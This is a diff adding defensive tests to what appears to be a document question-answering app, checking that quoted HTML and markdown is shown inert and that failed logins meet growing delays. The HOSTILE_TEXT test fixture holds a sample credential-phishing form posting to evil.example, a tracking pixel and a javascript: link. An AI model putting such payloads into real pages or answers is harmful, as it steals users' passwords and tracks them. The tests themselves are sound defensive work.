@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import asyncio
 import re
+import time
 from collections.abc import Iterator
 from dataclasses import dataclass
 from pathlib import Path
@@ -296,3 +298,45 @@ def test_unexpected_failures_are_logged_not_shown(caplog: pytest.LogCaptureFixtu
     assert "/secret/path" not in str(caught.value)
     assert "disk on fire at /secret/path" in caplog.text
     assert "Traceback" in caplog.text
+
+
+# Document text is shown, never rendered; guessing passwords is slow
+
+
+HOSTILE_TEXT = (
+    'Apply here: <form action="http://evil.example/steal"><input name="password" type="password"></form> '
+    "![logo](http://tracker.example/pixel.png) and [click](javascript:alert(1)) $$x$$ 1. *bold*"
+)
+
+
+def _shown_answer() -> Answer:
+    source = Source(number=1, path="evil.md", title="<b>Evil</b> ![t](http://tracker.example/t.png)", page=None,
+                    snippet=HOSTILE_TEXT, score=1.0)
+    return Answer(text=HOSTILE_TEXT + " [1]", sources=[source])
+
+
+def test_quoted_document_text_is_inert_in_answers_and_sources() -> None:
+    for message in app.answer_messages(_shown_answer()):
+        content = message["content"]
+        assert "<form" not in content and "<input" not in content and "<b>" not in content
+        assert "![" not in content and "](" not in content and "$$" not in content
+        assert "&lt;form" in content  # still readable as the document's own characters
+    assert app.inert("a_b [1]") == r"a\_b \[1\]"
+
+
+def test_failed_sign_ins_wait_longer_and_longer() -> None:
+    guard = app.LoginGuard("reader", "s3cret", first_delay=0.05)
+
+    async def attempts() -> list[tuple[bool, float]]:
+        results = []
+        for password in ("a", "b", "c", "s3cret", "d"):
+            start = time.monotonic()
+            results.append((await guard(username="reader", password=password), time.monotonic() - start))
+        return results
+
+    results = asyncio.run(attempts())
+    assert [ok for ok, _ in results] == [False, False, False, True, False]
+    waits = [seconds for _, seconds in results]
+    assert waits[0] < 0.05 and waits[1] >= 0.05 and waits[2] >= 0.1 and waits[3] >= 0.2
+    assert waits[4] < 0.05  # a success resets the delay
+    assert guard.delay() == pytest.approx(0.05)
